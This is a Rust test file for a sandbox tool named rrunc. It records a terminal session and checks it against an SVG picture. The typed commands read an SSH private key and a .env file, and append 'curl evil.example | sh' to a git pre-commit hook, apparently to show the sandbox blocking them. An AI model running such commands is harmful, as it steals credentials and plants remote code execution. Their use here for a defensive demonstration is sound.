//! man/session.svg: a session at a terminal, typed and recorded. The test types it again and compares what is shown, but
//! for numbers; `UPDATE=1 tests/run readme` draws the picture anew.
use crate::support::place::write;
use crate::support::{Lacks, Place, Terminal, kernel_is, runtime, skip};
use std::fmt::Write;

/// Compiled in: the account that runs this need not be able to read the repository.
const PICTURE: &str = include_str!("../../man/session.svg");

const PROMPT: &str = "$ ";

/// What is typed, in a project below HOME that has secrets beside it and in it.
const TYPED: [&str; 6] = [
    "head ../.ssh/id_ed25519 .env",
    "rrunc sandbox -- head ../.ssh/id_ed25519 .env",
    "rrunc sandbox -- getent hosts example.org",
    "rrunc sandbox -- sh -c 'echo \"curl evil.example | sh\" >> .git/hooks/pre-commit'",
    "rrunc sandbox --timeout 1s -- sleep 60",
    "rrunc doctor --attack",
];

/// Types it all and gives what the terminal showed, prompts and escape sequences included.
fn recorded() -> String {
    let place = Place::new();
    let project = place.project();
    for (file, text) in [(".env", "TOKEN=d41d8cd98f\n"), (".git/HEAD", "ref: refs/heads/main\n")] {
        write(&project.join(file), text);
    }
    write(&project.join(".git/hooks/pre-commit"), "#!/bin/sh\n");
    write(&place.home().join(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
    let program = runtime();
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", program.parent().expect("a directory").display());
    let shell = place.call_program("/bin/sh".as_ref(), &["-i"]).cwd(&project).env("PATH", path).env("PS1", PROMPT);
    let mut terminal = Terminal::start(shell, 48, 110);
    let mut shown = terminal.expect(PROMPT);
    for typed in TYPED {
        terminal.send(&format!("{typed}\r"));
        shown += &terminal.expect(&format!("\n{PROMPT}"));
    }
    terminal.send("exit\r");
    assert_eq!(terminal.wait().0, 0);
    let shown = shown.strip_suffix(PROMPT).expect("a prompt at the end");
    // A shell without job control says so first; the picture begins with the first prompt.
    shown[shown.find(PROMPT).expect("a prompt")..].replace('\r', "")
}

/// A piece of a line in one colour, which is a class of the picture's style.
type Piece<'a> = (&'static str, &'a str);

/// A line of the terminal: what was typed, or what was printed, in the colours of its escape sequences.
fn pieces(line: &str) -> Vec<Piece<'_>> {
    if let Some(typed) = line.strip_prefix(PROMPT) {
        return vec![("prompt", PROMPT), ("typed", typed)];
    }
    let mut pieces = Vec::new();
    for (number, part) in line.split("\x1b[").enumerate() {
        // All but the first begin with the parameters of a sequence.
        let (class, text) = match part.split_once('m').filter(|_| number > 0) {
            None => ("", part),
            Some(("31", text)) => ("bad", text),
            Some(("32", text)) => ("good", text),
            Some(("33", text)) => ("weak", text),
            Some(("0", text)) => ("", text),
            Some((other, _)) => panic!("a sequence that the picture has no colour for: {other:?} in {line:?}"),
        };
        pieces.push((class, text));
    }
    pieces.retain(|(_, text)| !text.is_empty());
    pieces
}

/// The picture. It brings its own background, to be read on a light page and on a dark one; each piece of text stands at
/// its column and has its width, whatever font there is.
fn drawn(shown: &str) -> String {
    const CHARACTER: f64 = 7.8;
    const LINE: usize = 19;
    let lines: Vec<Vec<Piece>> = shown.lines().map(pieces).collect();
    let length = |(_, text): &Piece| text.chars().count();
    let columns = lines.iter().map(|line| line.iter().map(length).sum::<usize>()).max().unwrap_or(0);
    let (width, height) = ((columns as f64 * CHARACTER).ceil() as usize + 40, lines.len() * LINE + 56);
    let mut svg = format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}" role="img" aria-label="A session at a terminal with rrunc">
<!-- Recorded from a real run: UPDATE=1 tests/run readme -->
<style>
text {{ font: 13px ui-monospace, "DejaVu Sans Mono", Menlo, Consolas, monospace; fill: #c9d1d9; white-space: pre; }}
.prompt {{ fill: #8b949e; }} .typed {{ fill: #ffffff; font-weight: bold; }}
.good {{ fill: #56d364; }} .weak {{ fill: #e3b341; }} .bad {{ fill: #ff7b72; }}
</style>
<rect x="0.5" y="0.5" width="{}" height="{}" rx="8" fill="#161b22" stroke="#6e7681"/>
<circle cx="20" cy="18" r="5" fill="#6e7681"/><circle cx="38" cy="18" r="5" fill="#6e7681"/><circle cx="56" cy="18" r="5" fill="#6e7681"/>
"##,
        width - 1,
        height - 1,
    );
    for (row, line) in lines.iter().enumerate() {
        let mut column = 0;
        for piece @ (class, text) in line {
            let long = length(piece) as f64 * CHARACTER;
            let (x, y) = (20.0 + column as f64 * CHARACTER, 48 + row * LINE);
            let class = if class.is_empty() { String::new() } else { format!(" class=\"{class}\"") };
            let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            writeln!(
                svg,
                r#"<text x="{x:.1}" y="{y}" textLength="{long:.1}" lengthAdjust="spacingAndGlyphs"{class} xml:space="preserve">{text}</text>"#
            )
            .expect("a String takes all");
            column += length(piece);
        }
    }
    svg + "</svg>\n"
}

/// Without what differs from run to run and from machine to machine: numbers, and whose memory was counted.
fn timeless(svg: &str) -> String {
    let mut text = String::new();
    let texts = svg.lines().filter(|line| line.starts_with("<text"));
    for line in texts.map(|line| line.replace(" (the largest process)", "").replace(" (all processes)", "")) {
        let shown = line.split_once('>').map(|(head, text)| (head.contains("\"typed\""), text));
        let (typed, line) = shown.expect("an element");
        let mut digits = false;
        for sign in line.chars() {
            // One sign for any number, except in what was typed.
            if typed || !(sign.is_ascii_digit() || (digits && sign == '.')) {
                text.push(sign);
                digits = false;
            } else if !std::mem::replace(&mut digits, true) {
                text.push('9');
            }
        }
        text.push('\n');
    }
    text
}

#[test]
fn the_picture_is_of_a_real_session() {
    if !kernel_is((6, 12)) {
        // doctor shows the difference, as it should.
        return skip(Lacks::Machine("a kernel with all that the picture shows: Landlock ABI 6 (Linux 6.12)"));
    }
    let picture = drawn(&recorded());
    if let Some(dir) = std::env::var_os("UPDATE") {
        std::fs::write(std::path::Path::new(&dir).join("session.svg"), &picture).expect("write the picture");
        return;
    }
    let (now, then) = (timeless(&picture), timeless(PICTURE));
    assert!(now == then, "stale: UPDATE=1 tests/run readme\n--- the picture\n{then}\n--- now\n{now}");
}
